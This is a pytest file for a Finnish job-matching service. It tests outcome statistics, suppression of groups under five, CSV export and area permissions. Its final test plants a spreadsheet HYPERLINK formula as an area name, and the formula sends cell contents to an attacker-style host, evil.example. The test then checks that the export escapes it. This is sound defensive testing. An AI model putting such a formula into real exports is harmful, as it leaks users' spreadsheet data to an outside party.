"""Outcome figures against values computed by hand on a fixed set of records, the suppression of small
groups, the CSV export and who may see which area."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.test import Client
from django.utils import timezone

from kohtaanto.web.core.errors import PermissionDenied
from kohtaanto.web.hiring.models import FollowUp, HiringCase, WorkTrial
from kohtaanto.web.matching import services
from kohtaanto.web.matching.models import JobPosting
from kohtaanto.web.outcomes.figures import SMALL, Period, compute
from kohtaanto.web.outreach.models import Activity, Need
from tests.db.test_matching_api import JOB
from tests.factories import OrganisationFactory

pytestmark = pytest.mark.db
PERIOD = Period(dt.date(2026, 3, 1), dt.date(2026, 6, 30))
TASKS = {"workplace": {"roles": [{"id": "r", "tasks": [{"id": "t"}]}]}}


def _at(model, obj, day: dt.date) -> None:
    moment = timezone.make_aware(dt.datetime.combine(day, dt.time(12)))
    model.objects.filter(pk=obj.pk).update(created_at=moment)


def _case(org, created: dt.date, **values) -> HiringCase:
    case = HiringCase.objects.create(organisation=org, title="x", **values)
    _at(HiringCase, case, created)
    return case


@pytest.fixture
def records(world):
    a, c = world["north_org"], world["south_org"]
    b = OrganisationFactory(municipality=a.municipality)
    Activity.objects.create(organisation=a, kind="visit", happened_on=dt.date(2026, 3, 10))
    Activity.objects.create(organisation=a, kind="call", happened_on=dt.date(2026, 3, 20))
    Activity.objects.create(organisation=b, kind="visit", happened_on=dt.date(2026, 4, 5))
    Activity.objects.create(organisation=c, kind="visit", happened_on=dt.date(2026, 3, 1))
    Activity.objects.create(organisation=a, kind="visit", happened_on=dt.date(2026, 7, 1))  # after the period
    carved = services.create_job(None, a, spec=JOB, title="Muokattu", kind="carved")
    _at(JobPosting, carved, dt.date(2026, 4, 15))
    ordinary = services.create_job(None, a, spec=JOB, title="Tavallinen")
    chosen = {
        "freed_hours_by_role": {"r": "6.5"},
        "supports": [{"id": "pay_subsidy_reduced_work_ability", "monthly_amount": 700.0}],
        "training_path": {"kind": "none"},
    }
    first = _case(
        a, dt.date(2026, 3, 25), inventory=TASKS, chosen=chosen, job=carved,
        decision="hired", decided_on=dt.date(2026, 4, 19),
    )  # fmt: skip
    Need.objects.create(organisation=a, text="tarve", found_on=dt.date(2026, 3, 20), case=first)
    Need.objects.create(organisation=b, text="toinen", found_on=dt.date(2026, 4, 5))
    profile = services.create_profile(
        None, spec={"skills": {}}, person=world["north_seeker"], area=world["north"]
    )
    WorkTrial.objects.create(
        case=first, profile=profile, starts_on=dt.date(2026, 4, 1), ends_on=dt.date(2026, 4, 14)
    )
    second = _case(a, dt.date(2026, 4, 10), job=ordinary, decision="hired", decided_on=dt.date(2026, 5, 10))
    for n in range(5):  # five cases that did not lead to a hire, no methods
        _case(b, dt.date(2026, 5, 1), decision="not_hired", decided_on=dt.date(2026, 5, 15 + n))
    FollowUp.objects.create(
        case=first, months=3, due_on=dt.date(2026, 7, 19), done_on=dt.date(2026, 7, 20), still_employed=True
    )
    FollowUp.objects.create(
        case=second, months=3, due_on=dt.date(2026, 8, 10), done_on=dt.date(2026, 8, 11), still_employed=False
    )
    _case(c, dt.date(2026, 4, 1), decision="hired", decided_on=dt.date(2026, 4, 20))  # another area
    return world


def test_figures_match_the_hand_count(records):
    f = compute(records["north"], PERIOD)
    assert f.employers_contacted == 2  # a and b; c is another area, a's July visit is after the period
    assert f.needs_found == 2
    assert f.task_inventories == 1
    assert f.carved_jobs == 1
    assert (f.hires_carved, f.hires_ordinary, f.hires) == (1, 1, 2)
    assert f.work_trials == 1
    assert (f.retention[3].n, f.retention[3].yes) == (2, 1)
    assert f.retention[3].suppressed and f.retention[3].value is None  # two people: never a rate
    assert f.retention[6].n == 0
    assert f.skilled_hours_freed_per_week == Decimal("6.5")
    assert f.supports == {"pay_subsidy_reduced_work_ability": (1, Decimal("700.00"))}
    assert f.days_need_to_hire == 30  # 20.3.→19.4. from the need, 10.4.→10.5. from the case
    assert [
        (m["month"].month, m["employers_contacted"], m["needs_found"], m["hires"]) for m in f.monthly
    ] == [
        (3, 1, 1, 0),
        (4, 1, 1, 1),
        (5, 0, 0, 1),
        (6, 0, 0, 0),
    ]
    everywhere = compute(None, PERIOD)
    assert (everywhere.employers_contacted, everywhere.hires) == (3, 3)


def test_method_combinations_suppress_groups_under_five(records):
    rows = {row["methods"]: row for row in compute(records["north"], PERIOD).combinations}
    carved = rows[("job_modification", "hidden_jobs", "work_trial")]
    assert carved["suppressed"] and carved["cases"] is None and carved["hire_rate"] is None
    plain = rows[()]
    assert not plain["suppressed"] and plain["cases"] == 6  # the ordinary hire and five without a hire
    assert plain["hire_rate"] == round(1 / 6, 3) and plain["retained_6"] is None
    assert SMALL == 5


def test_dashboard_and_csv_for_analysts_and_the_areas_own_professionals(records):
    analyst = Client()
    analyst.force_login(records["analyst"])
    query = f"area={records['north'].pk}&start=2026-03-01&end=2026-06-30"
    page = analyst.get(f"/outcomes/?{query}")
    html = page.content.decode()
    assert page.status_code == 200 and "<svg" in html and "alle 5 tapausta" in html  # Finnish by default
    rows = list(csv.reader(io.StringIO(analyst.get(f"/outcomes.csv?{query}").content.decode("utf-8-sig"))))
    figures = {r[1]: r[3] for r in rows if r[0] == "figure"}
    few = "alle 5 henkilöä"
    assert figures["hires"] == few and figures["employers_contacted"] == few and figures["needs_found"] == few
    # no cell of 1-4 anywhere: a single hire with the reduced-work-ability subsidy is a health fact
    assert not [r for r in rows if r[0] in ("figure", "month", "support") and r[3] in ("1", "2", "3", "4")]
    assert [r[3] for r in rows if r[0] == "support"] == [few]
    assert "700" not in page.content.decode() and "700" not in str(rows)
    assert {r[3] for r in rows if r[0] == "methods"} >= {
        "suppressed",
        "cases=6 hire_rate=0.167 retained_6=None",
    }
    bad = analyst.get("/outcomes/?start=2026-06-30&end=2026-03-01")
    assert bad.status_code == 400 and 'value="2026-06-30"' in bad.content.decode()
    assert analyst.get("/outcomes.csv?start=x&end=y").status_code == 400
    pro = Client()
    pro.force_login(records["north_professional"])
    assert pro.get(f"/outcomes/?{query}").status_code == 200
    other = f"area={records['south'].pk}&start=2026-03-01&end=2026-06-30"
    assert pro.get(f"/outcomes/?{other}").status_code == 400  # not a choice for them
    for who in ("north_employer", "north_seeker"):
        client = Client()
        client.force_login(records[who])
        assert client.get("/outcomes/").status_code == 404


def test_areas_are_compared_on_the_same_figures_urban_first(records):
    from kohtaanto.web.accounts import services as accounts

    accounts.set_area_kind(records["admin"], records["south"], "urban")
    accounts.set_area_kind(records["admin"], records["north"], "rural")
    analyst = Client()
    analyst.force_login(records["analyst"])
    html = analyst.get("/outcomes/regions/?start=2026-03-01&end=2026-06-30").content.decode()
    south, north = html.index(records["south"].name), html.index(records["north"].name)
    assert south < north  # urban first
    row = html[north : html.index("</tr>", north)]
    assert "<td>2</td>" not in row and "alle 5 henkilöä" in row  # two hires: fewer than five
    assert analyst.get("/outcomes/regions/?start=x&end=y").status_code == 400
    pro = Client()
    pro.force_login(records["north_professional"])
    assert pro.get("/outcomes/regions/").status_code == 404
    with pytest.raises(PermissionDenied):
        accounts.set_area_kind(records["north_professional"], records["north"], "urban")


def test_secondary_suppression_leaves_no_cell_to_subtract():
    from kohtaanto.web.outcomes.figures import additive, cell

    assert [cell(v) for v in (0, 1, 4, 5, 12)] == [0, None, None, 5, 12]
    # 3 carved + 9 ordinary = 12: hiding 3 alone would leave 12 - 9; the 9 goes too
    assert additive(12, [3, 9]) == (12, [None, None])
    # two hidden parts already protect each other
    assert additive(20, [2, 3, 15]) == (20, [None, None, 15])
    # one hidden part, the other parts zero: only hiding the total protects it
    assert additive(3, [0, 3, 0]) == (None, [0, None, 0])
    # the smallest other non-zero part is the one hidden
    assert additive(30, [2, 0, 8, 20]) == (30, [None, 0, None, 20])
    assert additive(10, [5, 5]) == (10, [5, 5])


def test_months_and_areas_add_up_without_revealing_a_small_cell(records):
    from kohtaanto.web.outcomes.figures import publishable

    f = compute(records["north"], PERIOD)
    published = publishable(f)
    assert all(m["hires"] in (0, None) for m in published.monthly)  # 1 in April, 1 in May
    assert published.supports == {"pay_subsidy_reduced_work_ability": (None, None)}
    assert published.skilled_hours_freed_per_week is None and published.days_need_to_hire is None


def test_csv_cells_never_run_as_spreadsheet_formulas(records):
    from kohtaanto.core.userdata import csv_cell

    assert [csv_cell(v) for v in ("=1+1", "+358", "-x", "@SUM(A1)", "\tx", "ok", 5, -5)] == [
        "'=1+1",
        "'+358",
        "'-x",
        "'@SUM(A1)",
        "'\tx",
        "ok",
        5,
        -5,
    ]
    area = records["north"]
    area.name_fi = '=HYPERLINK("http://evil.example/?"&A1,"Klikkaa")'
    area.save()
    analyst = Client()
    analyst.force_login(records["analyst"])
    raw = analyst.get(f"/outcomes.csv?area={area.pk}&start=2026-03-01&end=2026-06-30").content
    assert raw.startswith("\ufeff".encode())  # Excel reads "ä" right only after UTF-8's byte-order mark
    text = raw.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert all(row[4].startswith("'=") for row in rows[1:])
